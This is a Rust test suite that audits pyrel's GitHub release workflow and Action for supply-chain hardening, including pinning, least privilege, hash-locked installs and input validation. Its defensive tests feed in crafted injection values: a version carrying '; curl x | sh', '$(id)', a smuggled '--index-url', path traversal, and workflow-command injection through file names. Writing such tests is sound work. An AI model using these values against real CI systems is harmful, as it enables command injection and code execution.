//! pyrel's own release workflow (`.github/workflows/release.yml`) and its GitHub Action
//! (`action.yml`) meet the bar of everything pyrel renders: zizmor under every persona,
//! actionlint, GitHub's schemas, full-SHA pins, least privilege, and no `${{ }}` in a
//! `run:` line. The action's input check is run for real with good and crafted inputs.

use crate::common;

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_norway::Value;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn yaml(path: &Path) -> Value {
    serde_norway::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

#[test]
fn zizmor_finds_nothing_under_every_persona() {
    let Some(zizmor) = common::require_tool("zizmor") else {
        return;
    };
    for persona in ["regular", "pedantic", "auditor"] {
        let out = Command::new(&zizmor)
            .args(["--offline", "--no-progress", "--format=json"])
            .arg(format!("--persona={persona}"))
            .args([".github/workflows/release.yml", "action.yml"])
            .current_dir(root())
            .env_remove("GH_TOKEN")
            .env_remove("GITHUB_TOKEN")
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        let findings: serde_json::Value = serde_json::from_str(&stdout)
            .unwrap_or_else(|e| panic!("zizmor {persona}: no JSON ({e}): {stdout}"));
        assert!(
            findings.as_array().is_some_and(Vec::is_empty) && out.status.success(),
            "zizmor --persona={persona}:\n{}",
            serde_json::to_string_pretty(&findings).unwrap()
        );
        // Both files were audited (zizmor skips a file it cannot parse, silently).
        let stderr = String::from_utf8_lossy(&out.stderr);
        for f in [
            "completed .github/workflows/release.yml",
            "completed action.yml",
        ] {
            assert!(
                stderr.contains(f),
                "zizmor did not audit it ({f}): {stderr}"
            );
        }
    }
}

#[test]
fn actionlint_finds_nothing_in_the_release_workflow() {
    let findings = common::actionlint(&[root().join(".github/workflows/release.yml")]);
    assert!(
        findings.is_empty(),
        "actionlint: {}",
        serde_json::to_string_pretty(&findings).unwrap()
    );
}

#[test]
fn both_validate_against_githubs_schemas() {
    let Some(cj) = common::require_tool("check-jsonschema") else {
        return;
    };
    for (schema, file) in [
        (
            "vendor.github-workflows",
            root().join(".github/workflows/release.yml"),
        ),
        ("vendor.github-actions", root().join("action.yml")),
    ] {
        let out = Command::new(&cj)
            .args(["--builtin-schema", schema])
            .arg(&file)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}: {}{}",
            file.display(),
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

/// Every `uses:` is `owner/repo@<40 hex> # vX.Y.Z`.
fn assert_pinned(text: &str, label: &str) {
    for line in text
        .lines()
        .filter(|l| l.trim_start().starts_with("- uses:") || l.trim_start().starts_with("uses:"))
    {
        let spec = line.split("uses:").nth(1).unwrap().trim();
        let (action, rest) = spec
            .split_once('@')
            .unwrap_or_else(|| panic!("{label}: {line}"));
        let (sha, comment) = rest
            .split_once(" # v")
            .unwrap_or_else(|| panic!("{label}: no version comment: {line}"));
        assert!(action.contains('/'), "{label}: {line}");
        assert!(
            sha.len() == 40 && sha.chars().all(|c| c.is_ascii_hexdigit()),
            "{label}: not a full SHA: {line}"
        );
        assert!(
            comment.chars().next().is_some_and(|c| c.is_ascii_digit()),
            "{line}"
        );
    }
}

#[test]
fn the_release_workflow_builds_every_platform_and_publishes_with_least_privilege() {
    let path = root().join(".github/workflows/release.yml");
    let text = std::fs::read_to_string(&path).unwrap();
    assert_pinned(&text, "release.yml");
    // The maturin-action pin says where it was read.
    assert!(text.contains("PyO3/maturin-action@e83996d129638aa358a18fbd1dfb82f0b0fb5d3b # v1.51.0"));
    assert!(text.contains("astral-sh/ruff"), "the pin's source is cited");
    let wf = yaml(&path);
    assert_eq!(wf["permissions"], Value::Mapping(Default::default()));
    let jobs = wf["jobs"].as_mapping().unwrap();
    let targets: Vec<&str> = wf["jobs"]["wheels"]["strategy"]["matrix"]["include"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|t| t["target"].as_str().unwrap())
        .collect();
    assert_eq!(
        targets,
        [
            "x86_64-unknown-linux-gnu",
            "aarch64-unknown-linux-gnu",
            "x86_64-apple-darwin",
            "aarch64-apple-darwin",
            "x86_64-pc-windows-msvc"
        ]
    );
    for (name, job) in jobs {
        let name = name.as_str().unwrap();
        let perms = &job["permissions"];
        let id_token = perms["id-token"].as_str();
        if name == "publish" {
            assert_eq!(id_token, Some("write"));
            assert_eq!(job["environment"]["name"], "pypi");
            assert!(job["if"].as_str().unwrap().contains("refs/tags/v"));
            // Trusted Publishing: no password or token input.
            let steps = job["steps"].as_sequence().unwrap();
            let publish = steps
                .iter()
                .find(|s| {
                    s["uses"]
                        .as_str()
                        .is_some_and(|u| u.starts_with("pypa/gh-action-pypi-publish@"))
                })
                .unwrap();
            assert!(publish["with"]["password"].is_null());
            assert_eq!(publish["with"]["attestations"], true);
        } else {
            assert_eq!(id_token, None, "{name} must not mint OIDC tokens");
            assert_eq!(perms["contents"], "read", "{name}");
        }
        for step in job["steps"].as_sequence().unwrap() {
            if step["uses"]
                .as_str()
                .is_some_and(|u| u.starts_with("actions/checkout@"))
            {
                assert_eq!(step["with"]["persist-credentials"], false, "{name}");
            }
            assert!(step["run"].is_null() || !step["run"].as_str().unwrap().contains("${{"));
        }
    }
    assert!(!text.contains("pull_request_target") && !text.contains("workflow_run"));
}

#[test]
fn the_action_installs_the_pinned_release_and_keeps_inputs_out_of_run_lines() {
    let path = root().join("action.yml");
    let action = yaml(&path);
    assert_eq!(action["runs"]["using"], "composite");
    // The default is this very release, so a tag of the action installs its own pyrel.
    assert_eq!(
        action["inputs"]["version"]["default"].as_str(),
        Some(env!("CARGO_PKG_VERSION"))
    );
    let steps = action["runs"]["steps"].as_sequence().unwrap();
    for step in steps {
        if let Some(run) = step["run"].as_str() {
            assert!(!run.contains("${{"), "an expression in a run line:\n{run}");
        }
    }
    let all_runs: String = steps.iter().filter_map(|s| s["run"].as_str()).collect();
    // Installed by hash from the action's own list, never by name alone.
    let pip_line = all_runs
        .lines()
        .find(|l| l.contains("pip install"))
        .unwrap();
    assert!(!pip_line.contains("=="), "installed by name: {pip_line}");
    assert!(all_runs.contains("$GITHUB_ACTION_PATH/.github/action-requirements.txt"));
    assert!(all_runs.contains("--require-hashes --no-deps --only-binary :all: -r \"$req\""));
    assert!(all_runs.contains("doctor --format github"));
}

/// Runs the action's "Check the inputs" step the way the runner does (bash, inputs in env).
fn check_inputs(version: &str, dir: &str, offline: &str, strict: &str) -> (i32, String) {
    let action = yaml(&root().join("action.yml"));
    let step = action["runs"]["steps"]
        .as_sequence()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "Check the inputs")
        .unwrap()
        .clone();
    let out = Command::new("bash")
        .args(["--noprofile", "--norc", "-eo", "pipefail", "-c"])
        .arg(step["run"].as_str().unwrap())
        .env("PYREL_VERSION", version)
        .env("PYREL_DIR", dir)
        .env("PYREL_OFFLINE", offline)
        .env("PYREL_STRICT", strict)
        .output()
        .unwrap();
    (
        out.status.code().unwrap(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

#[test]
fn the_action_refuses_crafted_inputs_before_installing_anything() {
    for (v, d, o, s) in [
        ("0.1.0", ".", "false", "false"),
        ("1.2.3rc1", "libs/core", "true", "true"),
        ("2.0.0.post1", "a-b_c.d", "false", "true"),
    ] {
        let (code, out) = check_inputs(v, d, o, s);
        assert_eq!(code, 0, "{v} {d} {o} {s}: {out}");
    }
    for (v, d, o, s, what) in [
        ("0.1.0; curl x | sh", ".", "false", "false", "version"),
        (">=0.1", ".", "false", "false", "version"),
        (
            "0.1.0\n--index-url=http://x",
            ".",
            "false",
            "false",
            "version",
        ),
        (
            "0.1.0",
            "../elsewhere",
            "false",
            "false",
            "working-directory",
        ),
        ("0.1.0", "/etc", "false", "false", "working-directory"),
        ("0.1.0", "a b", "false", "false", "working-directory"),
        ("0.1.0", "$(id)", "false", "false", "working-directory"),
        ("0.1.0", ".", "yes", "false", "offline"),
        ("0.1.0", ".", "false", "1", "strict"),
    ] {
        let (code, out) = check_inputs(v, d, o, s);
        assert_eq!(code, 2, "{what} {v:?} {d:?}: {out}");
        assert!(
            out.starts_with("::error title=pyrel action::input ") && out.contains(what),
            "{out}"
        );
    }
}

/// Runs the action's "pyrel doctor" step as the runner does: bash, the step's `env:`
/// filled as the inputs would, GitHub's variables (`RUNNER_TEMP`, `GITHUB_WORKSPACE`,
/// `CI` …), and the pyrel the install step would have put into `$RUNNER_TEMP/pyrel-venv`
/// (here the binary under test). Returns the exit code and stdout then stderr.
fn doctor_step(workspace: &Path) -> (i32, String) {
    let action = yaml(&root().join("action.yml"));
    let step = action["runs"]["steps"]
        .as_sequence()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "pyrel doctor")
        .unwrap()
        .clone();
    let runner_temp = tempfile::tempdir().unwrap();
    let bin = runner_temp.path().join("pyrel-venv/bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::os::unix::fs::symlink(assert_cmd::cargo::cargo_bin("pyrel"), bin.join("pyrel")).unwrap();
    let out = Command::new("bash")
        .args(["--noprofile", "--norc", "-eo", "pipefail", "-c"])
        .arg(step["run"].as_str().unwrap())
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", runner_temp.path())
        .env("CI", "true")
        .env("GITHUB_ACTIONS", "true")
        .env("RUNNER_TEMP", runner_temp.path())
        .env("RUNNER_OS", "Linux")
        .env("GITHUB_WORKSPACE", workspace)
        .env("GITHUB_REPOSITORY", "acme/widgets")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("PYREL_DIR", ".")
        .env("PYREL_OFFLINE", "true")
        .env("PYREL_STRICT", "false")
        .env("GH_TOKEN", "ghp_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE")
        .output()
        .unwrap();
    (
        out.status.code().unwrap(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

/// The workflow commands the runner would read in `log`, by its own parsing rules (a
/// line, split at CR or LF, starting with `::` after white space; `##[` anywhere).
fn commands_in_log(log: &str) -> Vec<&str> {
    log.split(['\n', '\r'])
        .filter(|l| l.trim_start().starts_with("::") || l.contains("##["))
        .collect()
}

#[test]
fn the_action_log_carries_only_pyrels_own_workflow_commands() {
    // A committed credential in a file whose name holds a command on a line of its own:
    // reported as an annotation, its name percent-encoded inside the command.
    let dir = common::fixture("single-flat");
    common::pyrel(dir.path())
        .args(["init", "--yes"])
        .assert()
        .success();
    std::fs::write(
        dir.path().join("notes\n::stop-commands::acme-stop\n.txt"),
        "token = \"pypi-AgEIcHlwaS5vcmcFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE\"\n",
    )
    .unwrap();
    common::git(dir.path(), &["add", "-A"]);
    common::git(dir.path(), &["commit", "-q", "-m", "init"]);
    let (code, log) = doctor_step(dir.path());
    assert_eq!(code, 1, "{log}");
    let commands = commands_in_log(&log);
    assert!(
        commands.iter().any(|c| c
            .starts_with("::error file=notes%0A%3A%3Astop-commands%3A%3Aacme-stop%0A.txt,line=1,")),
        "{log}"
    );
    for c in &commands {
        assert!(
            ["::error ", "::warning ", "::notice "]
                .iter()
                .any(|p| c.starts_with(p)),
            "not one of pyrel's annotations: {c:?}\n{log}"
        );
    }

    // An input error on stderr (a duplicate TOML key holding a newline, quoted by the
    // parser's message): exit 2, and the key reaches the log escaped.
    let dir = common::fixture("single-flat");
    let pyproject = dir.path().join("pyproject.toml");
    let mut text = std::fs::read_to_string(&pyproject).unwrap();
    text.push_str(
        "\n[tool.acme]\n\"a\\n::stop-commands::b\" = 1\n\"a\\n::stop-commands::b\" = 2\n",
    );
    std::fs::write(&pyproject, text).unwrap();
    let (code, log) = doctor_step(dir.path());
    assert_eq!(code, 2, "{log}");
    assert!(log.contains("pyproject.toml"), "{log}");
    assert!(log.contains("\\u003a:stop-commands::b"), "{log}");
    assert_eq!(commands_in_log(&log), Vec::<&str>::new(), "{log}");
}

/// A wheel of `pyrel-cli` whose `pyrel` script prints `says`, built by the tools' Python
/// (the file pip would download from PyPI); returns its path.
fn fake_wheel(dir: &Path, version: &str, says: &str) -> PathBuf {
    let python = common::require_tools_python().expect("python");
    let out = Command::new(python)
        .args(["-c", r##"
import base64, hashlib, sys, zipfile
out, ver, says = sys.argv[1], sys.argv[2], sys.argv[3]
files = {
    "pyrel_cli-%s.data/scripts/pyrel" % ver: ("#!/bin/sh\necho %s\n" % says).encode(),
    "pyrel_cli-%s.dist-info/METADATA" % ver: ("Metadata-Version: 2.1\nName: pyrel-cli\nVersion: %s\n" % ver).encode(),
    "pyrel_cli-%s.dist-info/WHEEL" % ver: b"Wheel-Version: 1.0\nGenerator: acme-test\nRoot-Is-Purelib: false\nTag: py3-none-any\n",
}
record = "pyrel_cli-%s.dist-info/RECORD" % ver
lines = []
with zipfile.ZipFile(out, "w") as z:
    for name, data in files.items():
        info = zipfile.ZipInfo(name)
        info.external_attr = (0o100755 if "/scripts/" in name else 0o100644) << 16
        z.writestr(info, data)
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        lines.append("%s,sha256=%s,%d" % (name, digest, len(data)))
    lines.append(record + ",,")
    z.writestr(record, "\n".join(lines) + "\n")
"##])
        .arg(dir.join(format!("pyrel_cli-{version}-py3-none-any.whl")))
        .args([version, says])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    dir.join(format!("pyrel_cli-{version}-py3-none-any.whl"))
}

fn sha256_hex(path: &Path) -> String {
    use sha2::Digest;
    let bytes = std::fs::read(path).unwrap();
    format!("{:x}", sha2::Sha256::digest(&bytes))
}

/// Runs the action's "Install pyrel" step as the runner does, with the action checked out
/// at `action_path` (`GITHUB_ACTION_PATH`) and pip finding `wheels` instead of an index.
fn install_step(
    action_path: &Path,
    runner_temp: &Path,
    wheels: &Path,
    version: &str,
) -> (i32, String) {
    let action = yaml(&root().join("action.yml"));
    let step = action["runs"]["steps"]
        .as_sequence()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "Install pyrel")
        .unwrap()
        .clone();
    let out = Command::new("bash")
        .args(["--noprofile", "--norc", "-eo", "pipefail", "-c"])
        .arg(step["run"].as_str().unwrap())
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", runner_temp)
        .env("CI", "true")
        .env("GITHUB_ACTIONS", "true")
        .env("RUNNER_TEMP", runner_temp)
        .env("GITHUB_ACTION_PATH", action_path)
        .env("PYREL_VERSION", version)
        .env("PIP_NO_INDEX", "1")
        .env("PIP_FIND_LINKS", wheels)
        .env("PIP_NO_CACHE_DIR", "1")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

#[test]
fn the_action_installs_pyrel_only_by_the_hashes_it_lists() {
    // The shipped list: only our distribution, each line pinned by sha256.
    let dist = {
        let text = std::fs::read_to_string(root().join("pyproject.toml")).unwrap();
        let doc: toml_edit::DocumentMut = text.parse().unwrap();
        doc["project"]["name"].as_str().unwrap().to_string()
    };
    let shipped = std::fs::read_to_string(root().join(".github/action-requirements.txt")).unwrap();
    for line in shipped
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
    {
        let mut parts = line.split(' ');
        let pin = parts.next().unwrap();
        assert!(pin.starts_with(&format!("{dist}==")), "{line}");
        let hashes: Vec<&str> = parts.collect();
        assert!(!hashes.is_empty(), "{line}");
        for h in hashes {
            let hex = h
                .strip_prefix("--hash=sha256:")
                .unwrap_or_else(|| panic!("{line}"));
            assert!(
                hex.len() == 64 && hex.chars().all(|c| c.is_ascii_hexdigit()),
                "{line}"
            );
        }
    }

    // The step itself, against a wheel of our own on a local "index".
    let wheels = tempfile::tempdir().unwrap();
    let wheel = fake_wheel(wheels.path(), "0.1.0", "acme-pyrel-from-the-wheel");
    let action_path = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(action_path.path().join(".github")).unwrap();
    let list = |lines: &str| {
        std::fs::write(
            action_path.path().join(".github/action-requirements.txt"),
            format!("# test list\n{lines}"),
        )
        .unwrap();
    };

    // Listed with the wheel's hash: installed, and the installed pyrel runs.
    list(&format!(
        "pyrel-cli==0.1.0 --hash=sha256:{}\n",
        sha256_hex(&wheel)
    ));
    let temp = tempfile::tempdir().unwrap();
    let (code, log) = install_step(action_path.path(), temp.path(), wheels.path(), "0.1.0");
    assert_eq!(code, 0, "{log}");
    let pyrel = temp.path().join("pyrel-venv/bin/pyrel");
    let ran = Command::new(&pyrel).output().unwrap();
    assert_eq!(
        String::from_utf8_lossy(&ran.stdout).trim(),
        "acme-pyrel-from-the-wheel"
    );

    // A wheel other than the one listed (same name, other bytes): pip refuses it.
    list(&format!(
        "pyrel-cli==0.1.0 --hash=sha256:{}\n",
        "0".repeat(64)
    ));
    let temp = tempfile::tempdir().unwrap();
    let (code, log) = install_step(action_path.path(), temp.path(), wheels.path(), "0.1.0");
    assert_ne!(code, 0, "{log}");
    assert!(log.contains("HASHES"), "pip's hash refusal: {log}");
    assert!(!temp.path().join("pyrel-venv/bin/pyrel").exists(), "{log}");

    // A version the list does not name: nothing is installed, by name or otherwise.
    list(&format!(
        "pyrel-cli==0.1.0 --hash=sha256:{}\n# pyrel-cli==0.2.0 in a comment\n",
        sha256_hex(&wheel)
    ));
    fake_wheel(wheels.path(), "0.2.0", "unlisted");
    for version in ["0.2.0", "0.1"] {
        let temp = tempfile::tempdir().unwrap();
        let (code, log) = install_step(action_path.path(), temp.path(), wheels.path(), version);
        assert_eq!(code, 2, "{version}: {log}");
        assert!(
            log.starts_with(&format!(
                "::error title=pyrel action::pyrel-cli {version} is not listed with its hashes"
            )),
            "{version}: {log}"
        );
        assert!(!temp.path().join("pyrel-venv").exists(), "{version}: {log}");
    }
}
